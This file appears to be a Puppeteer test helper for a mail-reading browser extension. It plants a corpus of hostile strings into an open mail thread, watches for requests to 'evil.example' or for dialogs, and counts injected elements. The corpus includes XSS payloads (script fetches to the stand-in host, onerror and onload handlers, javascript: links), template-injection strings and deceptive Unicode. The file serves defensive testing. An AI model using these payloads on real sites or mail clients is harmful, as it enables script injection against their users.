import type { Page } from "puppeteer-core";
import type { Driver } from "./driver";

/** What a stranger could write into a mail so that it becomes more than words. Each would call for `evil.example`. */
export const CORPUS = [
  "<script>fetch('https://evil.example/script')</script>",
  "<img src=https://evil.example/img onerror=alert(1) data-evil>",
  "<svg data-evil onload=alert(2)><animate onbegin=alert(3)></svg>",
  "<style>@import 'https://evil.example/style';</style>",
  "<iframe data-evil srcdoc='<script>alert(4)</script>'></iframe>",
  '<a data-evil href="javascript:alert(5)">here</a>',
  "\"><b data-evil onmouseover='alert(6)' autofocus onfocus=alert(7)>",
  "javascript:alert(8)//",
  "{{constructor.constructor('alert(9)')()}} #{alert(10)} <%= 7*7 %>",
  "--></textarea></title></style><img data-evil src=x>",
  "&lt;b data-evil&gt; &#x3C;b data-evil&#x3E;",
  "__proto__ constructor toString",
  "\u202egnp.exe\u202c \u2067turned\u2069 \u200f\u061c",
  "zero\u200bwidth\ufeff joined\u200d👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\u0301\u0301\u0301",
  "שלום سلمى",
] as const;
export const ALL = CORPUS.join(" ");

/** Puts the corpus into the open thread: its subject, its people, its mails. */
export function makeHostile(page: Page): Promise<void> {
  return page.evaluate((corpus) => {
    const all = corpus.join(" ");
    for (const subject of document.querySelectorAll(".hP")) subject.textContent += ` ${all}`;
    for (const person of document.querySelectorAll(".gD")) {
      const name = `Mara ${all}`;
      person.setAttribute("name", name);
      person.textContent = name;
    }
    for (const body of document.querySelectorAll(".a3s")) {
      const block = document.createElement("div");
      block.append(`This is unacceptable. ${all} ${"long".repeat(20_000)}`);
      body.firstElementChild?.append(block);
    }
  }, CORPUS);
}

/** Writes down what must not happen in any page: dialogs, and calls for the stranger's host. */
export function watchFor({ browser }: Driver): string[] {
  const heard: string[] = [];
  browser.on("targetcreated", async (target) => {
    const page = await target.page().catch(() => null);
    page?.on("request", (request) => request.url().includes("evil.example") && heard.push(request.url()));
    page?.on("dialog", (dialog) => {
      heard.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
  });
  return heard;
}

/** Elements that words have become: in the page and in what of ours lies in it. */
export async function made(driver: Driver, page: Page): Promise<number> {
  const within = (root: ParentNode) =>
    root.querySelectorAll("[data-evil], [onerror], [onload], iframe, script:not([src]), a[href^=javascript]")
      .length;
  const roots = await driver.closedRoots(page);
  const inRoots = await Promise.all(roots.map((inside) => inside(within)));
  const inPage = await page.evaluate(`(${within})(document)`);
  return inRoots.reduce((sum, one) => sum + one, Number(inPage));
}
